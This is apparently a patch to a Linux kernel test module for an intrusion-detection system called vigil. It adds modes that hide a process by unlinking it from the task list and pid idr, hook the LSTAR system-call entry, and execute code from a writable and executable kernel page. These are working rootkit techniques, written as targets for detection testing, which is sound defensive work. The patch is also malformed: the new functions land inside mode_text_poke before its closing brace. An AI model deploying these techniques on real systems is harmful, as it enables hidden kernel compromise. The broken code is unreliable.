@@ -44,6 +44,35 @@
  *                  write the jmp: not a patch site of the kernel's. Under
  *                  vigil's block text_poke's own check then BUGs (the
  *                  insmod dies): run it last.
+ *
+ *   hide-process  DKOM: the process named "vhide" (tests/linux/prog/vhide.c,
+ *            started by /init on vigilprog=vhide) is unlinked from the task
+ *            list (list_del_init on task->tasks, under tasklist_lock, found
+ *            through kallsyms as it is not exported) and
+ *            its pid is taken out of the pid namespace's lookup (the idr
+ *            slot is set to NULL: /proc's listing, and so ps, no longer
+ *            has it, and the number stays taken; a /proc/N dentry already
+ *            cached still resolves through the struct pid). The task's
+ *            struct pid (the pid hash) is left alone. It keeps running:
+ *            the scheduler does not use the list. Proof: "VIGIL-MOD
+ *            hide-process hidden pid N comm vhide tsc T", then /init finds
+ *            N gone from /proc's listing and ps while vhide prints.
+ *
+ *   lstar    a system-call hook: LSTAR pointed at a trampoline of the
+ *            module's that jumps on to the real entry_SYSCALL_64. Under
+ *            KPTI the module's text is not mapped in the user page tables
+ *            a SYSCALL starts on, so a live hook would fault at the next
+ *            system call from user mode: the mode installs it with
+ *            interrupts off, reads LSTAR back (the proof, "VIGIL-MOD hook
+ *            lstar ... took yes"), and
+ *            puts the kernel's entry back before anything else runs on the
+ *            CPU. Under vigil the write is refused ("took no").
+ *   wx-exec  code run from a W+X kernel allocation: a vmalloc'd page made
+ *            executable with set_memory_x (both found through kallsyms)
+ *            while it stays writable, code copied into it and called
+ *            (proof: it returns 0x5649474c), then kept mapped for 300 ms
+ *            (a rootkit keeps its code) and freed.
+ *
  */
 #include <linux/module.h>
 #include <linux/kernel.h>
@@ -60,8 +89,11 @@
 #include <linux/vmalloc.h>
 #include <linux/mm.h>
 #include <linux/gfp.h>
+#include <linux/idr.h>
+#include <linux/pid_namespace.h>
 #include <linux/delay.h>
 #include <asm/msr.h>
+#include <asm/nospec-branch.h>
 #include <asm/page.h>
 #include <asm/pgtable.h>
 #include <asm/unistd.h>
@@ -73,7 +105,7 @@ MODULE_DESCRIPTION("vigil's test module: the kernel's own view for the IDS tests
 
 static char *mode = "offsets";
 module_param(mode, charp, 0444);
-MODULE_PARM_DESC(mode, "what to do at load: offsets, inline-hook, syscall-table, idt-gate, gdt-desc, remap-text, remap-idt, text-poke");
+MODULE_PARM_DESC(mode, "what to do at load: offsets, hide-process, lstar, wx-exec, inline-hook, syscall-table, idt-gate, gdt-desc, remap-text, remap-idt, text-poke");
 
 /* kallsyms_lookup_name is not exported: its address from a kprobe on it. */
 typedef unsigned long (*lookup_fn)(const char *name);
@@ -474,6 +506,97 @@ static void mode_text_poke(void)
 	}
 	pr_info("VIGIL-MOD text-poke ok: %s jumps to the module (%*ph)\n", TARGET, 5, (void *)t);
 	((text_poke_fn)tp)((void *)t, orig, 5);
+
+static int mode_hide_process(void)
+{
+	struct task_struct *t, *victim = NULL;
+	rwlock_t *tl = lookup ? (rwlock_t *)lookup("tasklist_lock") : NULL;  /* not exported */
+	int pid;
+
+	if (!tl) {
+		pr_info("VIGIL-MOD hide-process: tasklist_lock not found\n");
+		return -ENOENT;
+	}
+	write_lock_irq(tl);
+	for_each_process(t)
+		if (!strcmp(t->comm, "vhide") && t->mm) {
+			victim = t;
+			break;
+		}
+	if (!victim) {
+		write_unlock_irq(tl);
+		pr_info("VIGIL-MOD hide-process: no process named vhide (vigilprog=vhide starts it)\n");
+		return -ESRCH;
+	}
+	pid = victim->tgid;
+	list_del_init(&victim->tasks);          /* gone from for_each_process; a later exit unlinks nothing */
+	idr_replace(&init_pid_ns.idr, NULL, pid); /* /proc's readdir and lookup go through the idr */
+	write_unlock_irq(tl);
+	pr_info("VIGIL-MOD hide-process hidden pid %d comm vhide tsc %llu\n", pid, (unsigned long long)rdtsc());
+	msleep(200);                            /* the hidden process has the CPU */
+	return 0;
+}
+
+/* lstar: the trampoline, in the module's text */
+unsigned long vigil_real_entry;
+void vigil_lstar_tramp(void);
+asm(".pushsection .text\n"
+    ".globl vigil_lstar_tramp\n"
+    ".type vigil_lstar_tramp, @function\n"
+    "vigil_lstar_tramp:\n"
+    ANNOTATE_RETPOLINE_SAFE
+    "\tjmp *vigil_real_entry(%rip)\n"
+    ".size vigil_lstar_tramp, . - vigil_lstar_tramp\n"
+    ".popsection\n");
+
+static int mode_lstar(void)
+{
+	unsigned long flags, tramp = (unsigned long)vigil_lstar_tramp;
+	u64 orig, now;
+
+	rdmsrl(MSR_LSTAR, orig);
+	vigil_real_entry = orig;
+	local_irq_save(flags);
+	wrmsrl(MSR_LSTAR, tramp);
+	rdmsrl(MSR_LSTAR, now);
+	wrmsrl(MSR_LSTAR, orig);                /* KPTI: see above */
+	local_irq_restore(flags);
+	pr_info("VIGIL-MOD hook lstar trampoline 0x%lx to entry 0x%llx took %s (LSTAR read back 0x%llx)\n", tramp, orig,
+		now == tramp ? "yes" : "no", now);
+	return 0;
+}
+
+/* wx-exec: endbr64; mov $0x5649474c, %eax; ret */
+static const u8 wx_code[] = { 0xf3, 0x0f, 0x1e, 0xfa, 0xb8, 0x4c, 0x47, 0x49, 0x56, 0xc3 };
+
+static int mode_wx_exec(void)
+{
+	int (*set_x)(unsigned long addr, int numpages);
+	unsigned int (*fn)(void);
+	unsigned int r;
+	void *page;
+
+	set_x = lookup ? (void *)lookup("set_memory_x") : NULL;
+	if (!set_x) {
+		pr_info("VIGIL-MOD wx-exec: set_memory_x not found\n");
+		return -ENOENT;
+	}
+	page = vmalloc(PAGE_SIZE);
+	if (!page)
+		return -ENOMEM;
+	memcpy(page, wx_code, sizeof(wx_code));
+	if (set_x((unsigned long)page, 1)) {
+		pr_info("VIGIL-MOD wx-exec: set_memory_x failed\n");
+		vfree(page);
+		return -EPERM;
+	}
+	pr_info("VIGIL-MOD wx-exec page 0x%lx writable and executable\n", (unsigned long)page);
+	fn = page;
+	r = fn();
+	pr_info("VIGIL-MOD wx-exec ran code at 0x%lx: returned 0x%x\n", (unsigned long)page, r);
+	msleep(300);
+	vfree(page);                            /* vfree resets the page's permissions */
+	return 0;
 }
 
 static int __init vigiltest_init(void)
@@ -485,6 +608,16 @@ static int __init vigiltest_init(void)
 	pr_info("VIGIL-MOD start mode=%s\n", mode);
 	if (!strcmp(mode, "offsets")) {
 		mode_offsets();
+	} else if (!strcmp(mode, "hide-process")) {
+		r = mode_hide_process();
+		if (r)
+			return r;
+	} else if (!strcmp(mode, "lstar")) {
+		mode_lstar();
+	} else if (!strcmp(mode, "wx-exec")) {
+		r = mode_wx_exec();
+		if (r)
+			return r;
 	} else if (!strcmp(mode, "inline-hook")) {
 		mode_inline_hook();
 	} else if (!strcmp(mode, "syscall-table")) {
@@ -500,8 +633,7 @@ static int __init vigiltest_init(void)
 	} else if (!strcmp(mode, "text-poke")) {
 		mode_text_poke();
 	} else {
-		pr_info("VIGIL-MOD error: unknown mode \"%s\"; known: offsets inline-hook syscall-table idt-gate "
-			"gdt-desc remap-text remap-idt text-poke\n", mode);
+		pr_info("VIGIL-MOD error: unknown mode \"%s\"; known: offsets hide-process lstar wx-exec inline-hook syscall-table idt-gate gdt-desc remap-text remap-idt text-poke\n", mode);
 		return -EINVAL;
 	}
 	pr_info("VIGIL-MOD done mode=%s\n", mode);
